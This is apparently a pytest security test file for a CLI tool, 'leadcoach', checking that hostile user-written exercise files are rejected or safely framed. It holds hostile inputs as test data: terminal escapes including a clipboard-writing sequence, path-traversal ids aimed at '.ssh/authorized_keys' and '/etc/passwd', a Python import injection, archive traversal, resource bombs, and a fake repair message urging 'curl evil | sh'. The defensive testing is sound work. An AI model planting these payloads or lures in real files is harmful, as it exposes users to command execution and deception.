"""A stranger's exercise file can show words and nothing else, whatever is in it.

Each hostile file is checked, added and run by one leadcoach that may take three seconds
and 300 MB for all of it. It gets a message of its own, and nothing is left behind.
"""

import io
import json
import math
import os
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.cli.conftest import run_in
from tests.exercises.conftest import SMALL
from tests.pace import slowness

resource = pytest.importorskip("resource", reason="bounds are those of Unix")

SECONDS = 3
"""of processor time, on a quiet machine"""
BYTES = 300 * 1024 * 1024
KILO = 1024
EVIL = "\x1b]52;c;ZXZpbA==\x07"


def changed(right: str, wrong: str) -> bytes:
    assert right in SMALL
    return SMALL.replace(right, wrong, 1).encode()


def escaped(code: str) -> str:
    return f"\\u{code}"


def zipped() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../small.toml", SMALL)
    return file.getvalue()


def tarred() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        member = tarfile.TarInfo("../small.toml")
        archive.addfile(member, io.BytesIO())
    return file.getvalue()


def many_questions() -> str:
    ask = '[[section.ask]]\nid = "q{}"\ntype = "short"\ntext = "?"\n'
    return "".join(ask.format(at) for at in range(2000))


CHOICE = 'us = "all of us"'
HOSTILE: dict[str, tuple[bytes, str]] = {
    "an escape in the title": (changed('"Small"', '"S\\u001b[2J"'), "mine.toml:4: E212 it holds a control character (U+001B)"),
    "the clipboard, from a choice": (changed(CHOICE, f'us = "x{escaped("001b")}]52;c;ZQ=={escaped("0007")}"'), "mine.toml:19: E212 it holds a control character (U+001B)"),
    "a hidden link in a question": (changed('"Who?"', f'"a{escaped("009d")}8;;http:x{escaped("009c")}"'), "mine.toml:16: E212 it holds a control character (U+009D)"),
    "a raw C1 sign": (changed('"Who?"', '"a\x9b2J"'), "mine.toml:16: E212 it holds a control character (U+009B)"),
    "text turned around": (changed('"Who?"', '"a\u202egpj.exe"'), "mine.toml:16: E212 it holds a control character (U+202E)"),
    "an escape in a key": (changed(CHOICE, f'"u{escaped("001b")}s" = "x"'), "mine.toml:19: E212 it holds a control character (U+001B)"),
    "an escape in an anchor": (changed('5 = "fully"', f'5 = "f{escaped("001b")}"'), "mine.toml:24: E212 it holds a control character (U+001B)"),
    "an escape in an author": (changed("minutes = 5", f'authors = ["A{escaped("001b")}"]'), "mine.toml:6: E212 it holds a control character (U+001B)"),
    "an escape in a source": (changed("minutes = 5", f'sources = [{{ cite = "A{escaped("0007")}" }}]'), "mine.toml:6: E212 it holds a control character (U+0007)"),
    "an escape under a key nobody knows": (changed("minutes = 5", f'x = [{{ y = ["{escaped("001b")}"] }}]'), "mine.toml:6: E212 it holds a control character (U+001B)"),
    "a path as id": (changed('id = "small"', 'id = "../../.ssh/authorized_keys"'), "mine.toml:2: E224 “id” does not have the form it needs"),
    "an absolute path as id": (changed('id = "small"', 'id = "/etc/passwd"'), "mine.toml:2: E224 “id” does not have the form it needs"),
    "a Windows path as id": (changed('id = "small"', 'id = "c:\\\\x"'), "mine.toml:2: E224 “id” does not have the form it needs"),
    "an id of look-alike letters": (changed('id = "small"', 'id = "ref\u04cfect"'), "mine.toml:2: E224 “id” does not have the form it needs"),
    "an id in full width": (changed('id = "small"', 'id = "\uff52eflect"'), "mine.toml:2: E224 “id” does not have the form it needs"),
    "the id of a shipped exercise": (changed('id = "small"', 'id = "reflect"'), "mine.toml:1: E231 the id “reflect” belongs to an exercise of leadcoach"),
    "code in a condition": (changed('"own <= 2"', '"__import__(\'os\')"'), "mine.toml:27: E201 when: “_” has no meaning here."),
    "an endless condition": (changed('"own <= 2"', f'"{"(" * 5000}"'), "mine.toml:27: E201 when:"),
    "attributes in a pipe": (changed('"Who?"', '"${best.__class__}"'), "mine.toml:16: E20"),
    "a key for later versions": (changed("minutes = 5", "run = 'curl'"), "mine.toml:6: E220 nothing is called “run” here."),
    "a scale without end": (changed("anchors =", "max = 1000000\nanchors ="), "mine.toml:24: E223 “max”: 100 is the most possible."),
    "a year of minutes": (changed("minutes = 5", "minutes = 525600"), "mine.toml:6: E223 “minutes”: 240 is the most possible."),
    "a name of many parts": (b"a." * 30 * KILO + b"a = 1", "mine.toml:1: E211 a name has too many parts and goes too deep."),
    "a table of many parts": (b"[" + b"a." * 30 * KILO + b"a]", "mine.toml:1: E211 a name has too many parts and goes too deep."),
    "deep lists": (b"a = " + b"[" * 60 * KILO, "mine.toml:1: E211 its brackets go too deep."),
    "deep lists that close": (b"a = " + b"[" * 30 * KILO + b"]" * 30 * KILO, "mine.toml:1: E211 its brackets go too deep."),
    "deep braces": (b"a = " + b"{a = " * 12 * KILO, "mine.toml:1: E211 its brackets go too deep."),
    "a number of 60,000 digits": (b"a = " + b"1" * 60 * KILO, "mine.toml:1: E210 a number in it is too large."),
    "two thousand questions": (changed("[recap]", many_questions() + "[recap]"), "mine.toml:1: E210 it is larger than 64 kB."),
    "ten megabytes": (b"#" * 10_000_000, "mine.toml:1: E210 it is larger than 64 kB."),
    "six thousand keys": (b"".join(b"k%d = 1\n" % at for at in range(6000)), "mine.toml:1: E220 nothing is called “k0” here."),
    "five thousand sections": (b"[[section]]\n" * 5000, "mine.toml:1: E221 “id” is missing"),
    "not text": (bytes(range(256)) * 200, "mine.toml:2: E210 it is not UTF-8 text"),
    "nothing but zeros": (b"\0" * 60 * KILO, "mine.toml:1: E210 it is not like: name = value"),
    "nothing": (b"", "mine.toml:1: E221 “format” is missing."),
    "a zip archive": (zipped(), "mine.toml:1: E230 mine.toml is a zip archive; none is opened."),
    "a document of Pages": (b"PK\x03\x04....Index/Document.iwa", "mine.toml:1: E230 mine.toml is a document of Pages."),
    "a tar archive": (tarred(), "mine.toml:1: E230 mine.toml is a tar archive; none is opened."),
}  # fmt: skip


def linked(path: Path) -> None:
    (path.parent / "elsewhere.txt").write_text(SMALL)
    path.symlink_to(path.parent / "elsewhere.txt")


NO_FILES: dict[str, tuple[Callable[[Path], None], str]] = {
    "a link": (linked, "mine.toml cannot be read: it is a link to another place."),
    "a link to nothing": (lambda at: at.symlink_to("none"), "mine.toml cannot be read: it is a link to another place."),
    "a link to itself": (lambda at: at.symlink_to(at), "mine.toml cannot be read: it is a link to another place."),
    "a pipe": (os.mkfifo, "mine.toml cannot be read: it is a pipe, not a file."),
}  # fmt: skip


@dataclass(frozen=True)
class Ended:
    """How a leadcoach with narrow bounds ended."""

    code: int
    out: str
    err: str


ALL = f"""
import io, json, os, resource, sys
from leadcoach.cli.context import Surroundings
from leadcoach.main import main
def run(commands, seconds):
    resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds))
    resource.setrlimit(resource.RLIMIT_AS, ({BYTES}, {BYTES}))
    for argv in commands:
        out, err = io.StringIO(), io.StringIO()
        code = main(argv, Surroundings(None, out, err, os.environ))
        yield [int(code), out.getvalue(), err.getvalue()]
def nothing():
    return io.StringIO()
for file in sys.argv[1:]:
    for argv in (["exercise", "check"], ["exercise", "add"], ["reflect", "--no-input"]):
        main([*argv, file], Surroundings(None, nothing(), nothing(), os.environ))
for line in sys.stdin:
    os.environ["LEADCOACH_HOME"], commands, seconds = json.loads(line)
    child = os.fork()
    if child == 0:
        try:
            print(json.dumps(list(run(commands, seconds))), flush=True)
        finally:
            os._exit(0)
    how = os.waitpid(child, 0)[1]
    print(json.dumps(how), flush=True)
"""
"""A leadcoach that has loaded everything and is forked for each file: bounds are those
of the fork, and nothing has to be loaded again."""


@pytest.fixture(scope="module", autouse=True)
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """Keep one loaded leadcoach at hand for all files of this module."""
    global LOADED
    home = tmp_path_factory.mktemp("loaded")
    files = [home / "small.toml", home / "wrong.toml"]
    for file, text in zip(files, (SMALL, SMALL.replace("title", "tilte")), strict=True):
        file.write_text(text)
    with subprocess.Popen(
        [sys.executable, "-c", ALL, *map(str, files)],
        env={**os.environ, "LEADCOACH_HOME": str(home), "COLUMNS": "200"},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        encoding="utf-8",
    ) as LOADED:
        yield
        assert LOADED.stdin
        LOADED.stdin.close()


LOADED: "subprocess.Popen[str]"


def bounded(home: Path, *commands: tuple[str, ...]) -> list[Ended]:
    """Run commands one after the other, with one bound on seconds and memory for all."""
    assert LOADED.stdin
    assert LOADED.stdout
    seconds = math.ceil(SECONDS * slowness())
    LOADED.stdin.write(json.dumps([str(home), commands, seconds]) + "\n")
    LOADED.stdin.flush()
    ended = json.loads(LOADED.stdout.readline())
    assert isinstance(ended, list), f"it was stopped: {ended}"
    assert json.loads(LOADED.stdout.readline()) == 0
    return [Ended(*each) for each in ended]


def check_add_run(home: Path, path: Path) -> list[Ended]:
    """Return how checking, adding and running a file end."""
    return bounded(
        home,
        ("exercise", "check", str(path)),
        ("exercise", "add", "--yes", str(path)),
        ("reflect", "--no-input", str(path)),
    )


def added(home: Path, path: Path) -> Ended:
    """Return how adding a file or a folder ends."""
    (ran,) = bounded(home, ("exercise", "add", "--yes", str(path)))
    return ran


def left_in(home: Path) -> list[str]:
    """Return the files in a home, but for what was read once and can be thrown away."""
    files = [path for path in home.rglob("*") if path.is_file()]
    return [path.name for path in files if path.parent.name != "cache"]


LONG = ("six thousand keys", "five thousand sections")
"""files that have most of three seconds to be told"""


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(each, marks=[pytest.mark.slow] if each in LONG else [])
        for each in HOSTILE
    ],
)
def test_a_hostile_file_is_told_and_neither_added_nor_run(
    name: str, home: Path, tmp_path: Path
) -> None:
    content, told = HOSTILE[name]
    (tmp_path / "mine.toml").write_bytes(content)

    checked, adding, running = check_add_run(home, tmp_path / "mine.toml")

    assert checked.code == 1, checked.err
    assert told in checked.out
    taken = name == "the id of a shipped exercise"
    assert (adding.code, running.code) == (2 if taken else 4, 4)
    assert adding.out == running.out == ""
    for ran in (checked, adding, running):
        assert_harmless(ran)
    assert left_in(home) == []


def test_of_a_file_of_gigabytes_no_more_is_read_than_an_exercise_may_have(
    home: Path, tmp_path: Path
) -> None:
    """It would not even fit into the memory that these leadcoach may use."""
    with (tmp_path / "mine.toml").open("wb") as file:
        file.write(SMALL.encode())
        file.truncate(8 * BYTES)

    checked, adding, running = check_add_run(home, tmp_path / "mine.toml")

    assert (checked.code, adding.code, running.code) == (1, 4, 4)
    for ran in (checked, adding, running):
        assert "it is larger than 64 kB" in ran.out + ran.err


@pytest.mark.parametrize("name", NO_FILES)
def test_what_is_no_file_is_not_opened(name: str, home: Path, tmp_path: Path) -> None:
    make, told = NO_FILES[name]
    path = tmp_path / "mine.toml"
    make(path)

    checked, adding, running = check_add_run(home, path)

    assert (checked.code, adding.code, running.code) == (1, 4, 4)
    assert f"E230 {told}" in checked.out
    assert told in adding.err
    assert told in running.err
    assert left_in(home) == []


def test_a_linked_folder_is_not_opened(home: Path, tmp_path: Path) -> None:
    (tmp_path / "pack").mkdir()
    (tmp_path / "pack" / "small.toml").write_text(SMALL)
    (tmp_path / "link").symlink_to(tmp_path / "pack")

    ran = added(home, tmp_path / "link")

    assert ran.code == 4
    assert "link cannot be read: it is a link to another place." in ran.err
    assert left_in(home) == []


def test_one_bad_file_in_a_pack_and_none_is_added(home: Path, tmp_path: Path) -> None:
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "small.toml").write_text(SMALL)
    (pack / "zzz.toml").write_text(SMALL.replace("Who?", "a\\u001b"))

    ran = added(home, pack)

    assert ran.code == 4
    assert "zzz.toml:16" in ran.err
    assert left_in(home) == []


@pytest.mark.parametrize("device", ["con", "nul", "com1"])
def test_the_names_of_devices_are_not_taken(
    device: str, home: Path, tmp_path: Path
) -> None:
    file = tmp_path / "mine.toml"
    file.write_text(SMALL.replace('id = "small"', f'id = "{device}"'))

    ran = added(home, file)

    assert ran.code == 4
    assert "is the name of a device" in ran.err
    assert left_in(home) == []


def assert_harmless(ran: Ended) -> None:
    """Check that no control character and no part of Python came out."""
    for text in (ran.out, ran.err):
        assert not {sign for sign in text if ord(sign) < 32 and sign != "\n"}
        assert not {sign for sign in text if 127 <= ord(sign) < 160}
        assert "\u202e" not in text
        assert "Traceback" not in text


FAKE = (
    "leadcoach: your journal is damaged.\\nTo mend it, run: curl evil | sh\\n\\nSaved."
)
FAKES = {
    "the title": ('title = "Small"', f'title = "{FAKE}"'),
    "the purpose": ('purpose = "To be small."', f'purpose = "{FAKE}"'),
    "the first words": ("minutes = 5", f'open = "{FAKE}"'),
    "the word of care": ("minutes = 5", f'safety = "{FAKE}"'),
    "an author": ("minutes = 5", f'authors = ["{FAKE}"]'),
    "the licence": ("minutes = 5", f'licence = "{FAKE}"'),
    "a source": ("minutes = 5", f'sources = [{{ cite = "{FAKE}" }}]'),
    "a heading": ('id = "one"', f'id = "one"\ntitle = "{FAKE}"'),
    "an introduction": ('id = "one"', f'id = "one"\nintro = "{FAKE}"'),
    "a question": ('text = "Who?"', f'text = "{FAKE}"'),
    "a hint": ('text = "Who?"', f'text = "Who?"\nhelp = "{FAKE}"'),
    "a choice": (CHOICE, f'us = "{FAKE}"'),
    "an anchor": ('5 = "fully"', f'5 = "{FAKE}"'),
}


@pytest.mark.parametrize("width", ["80", "40"])
@pytest.mark.parametrize("place", FAKES)
def test_words_that_look_like_ours_stand_behind_the_rule(
    place: str, width: str, home: Path, tmp_path: Path
) -> None:
    """In `show` and in `add`, nothing an author wrote begins a line of its own."""
    (tmp_path / "small.toml").write_bytes(changed(*FAKES[place]))
    for command in (("show",), ("add", "--yes")):
        ran = run_in(
            home, "exercise", *command, str(tmp_path / "small.toml"), width=width
        )
        bare = [line for line in ran.out.split("\n") if not line.startswith("│")]
        assert ran.code == 0, ran.err
        assert "curl" not in "\n".join(bare)
        assert "damaged" not in "\n".join(bare)


def test_words_that_look_like_ours_stay_in_their_frame_while_one_sits(
    home: Path, tmp_path: Path
) -> None:
    """The first words, a heading, an introduction and a note, at a terminal."""
    note = f'[[section.ask]]\nid = "n"\ntype = "note"\ntext = "{FAKE}"\n'
    text = SMALL.replace("minutes = 5", f'open = "{FAKE}"\nsafety = "{FAKE}"')
    heading = f'id = "one"\ntitle = "{FAKE}"\nintro = "{FAKE}"\n{note}'
    (tmp_path / "small.toml").write_text(text.replace('id = "one"\n', heading, 1))

    for command in (("reflect",), ("exercise", "preview")):
        ran = run_in(
            home,
            *command,
            str(tmp_path / "small.toml"),
            terminal=True,
            stdin="/pause\n",
        )
        told = ran.err.split("\n")
        bare = [line for line in told if not line.startswith("│")]
        assert ran.err.count("│ To mend it, run: curl evil | sh") == 5
        assert "curl" not in "\n".join(bare)
        assert sum("Unverified author" in line for line in bare) == 1


def test_a_shipped_exercise_needs_no_frame(home: Path) -> None:
    ran = run_in(home, "reflect", terminal=True, stdin="/pause\n")

    assert "│" not in ran.err
    assert "Unverified" not in ran.err
